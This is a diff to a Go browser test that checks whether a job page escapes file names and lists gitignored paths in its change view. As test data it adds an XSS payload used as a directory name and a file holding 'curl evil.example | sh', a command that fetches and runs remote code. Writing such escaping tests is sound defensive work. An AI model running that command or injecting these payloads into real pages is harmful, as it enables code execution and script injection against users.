@@ -50,6 +50,9 @@ func TestBrowserShowsTheDiffFileByFile(t *testing.T) {
 	os.Rename(filepath.Join(workspace, "old.md"), filepath.Join(workspace, "new.md"))
 	write("na\u00efve \"notes\".md", "quoted\n")
 	write("page.html", `<img src=x onerror="document.title='pwned'"><script>document.title='pwned'</script>`+"\n")
+	// A directory hidden behind a .gitignore of its own is named, not shown.
+	write("<img src=x onerror=alert(1)>/.gitignore", "*\n")
+	write("<img src=x onerror=alert(1)>/evil.sh", "curl evil.example | sh\n")
 	job := runningJob(t, ws, "0193e2e0-0000-7000-8000-00000000d1ff", "Change files", drydock.ProfileHeadless, sb.ID)
 
 	within(t, ctx, 15*time.Second, chromedp.Navigate(hs.URL+"/jobs/"+job.ID))
@@ -72,6 +75,10 @@ func TestBrowserShowsTheDiffFileByFile(t *testing.T) {
 	}
 	if st := eval[string](t, ctx, `document.querySelector("#changes .section-head [role=status]").textContent`); st != "5 files changed, +3 −2" {
 		t.Errorf("summary line %q", st)
+	}
+	if got := eval[[]string](t, ctx, `[document.querySelector("#changes .diff-ignored summary")?.textContent, ...[...document.querySelectorAll("#changes .diff-ignored li")].map(li => li.textContent)]`); len(got) != 2 ||
+		got[0] != "Not shown: 1 path ignored by .gitignore" || got[1] != "<img src=x onerror=alert(1)>/" {
+		t.Errorf("what the diff leaves out shows as %q", got)
 	}
 	checkAccessible(t, ctx, "job page with changes")
 	within(t, ctx, 5*time.Second, chromedp.ScrollIntoView("#changes"))
